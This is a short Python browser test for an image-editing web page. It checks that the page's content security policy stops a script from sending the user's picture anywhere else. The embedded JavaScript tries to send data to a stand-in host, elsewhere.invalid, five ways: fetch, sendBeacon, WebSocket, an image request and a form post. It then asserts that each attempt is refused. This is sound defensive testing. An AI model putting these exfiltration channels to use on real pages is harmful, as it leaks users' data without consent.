"""The picture stays here: the policy holds whoever tries. Whole visits: see test_inpaint."""


def test_whatever_a_script_tried_the_policy_sends_nothing_elsewhere(visitor):
    page = visitor.open_ready()
    refused = page.evaluate(
        """async () => {
          const refused = [];
          document.addEventListener("securitypolicyviolation", (event) => {
            refused.push(event.effectiveDirective);
          });
          const elsewhere = "https://elsewhere.invalid/";
          await fetch(elsewhere, { method: "POST", body: "picture" }).catch(() => undefined);
          navigator.sendBeacon(elsewhere, "picture");
          try { new WebSocket("wss://elsewhere.invalid/"); } catch { /* refused at once */ }
          new Image().src = elsewhere + "picture.png";
          const form = document.body.appendChild(document.createElement("form"));
          Object.assign(form, { method: "POST", action: elsewhere });
          form.submit();
          await new Promise((resolve) => setTimeout(resolve, 200));
          return refused;
        }"""
    )
    assert {"connect-src", "img-src", "form-action"} <= set(refused)
    assert refused.count("connect-src") >= 3
    assert visitor.uploads == []
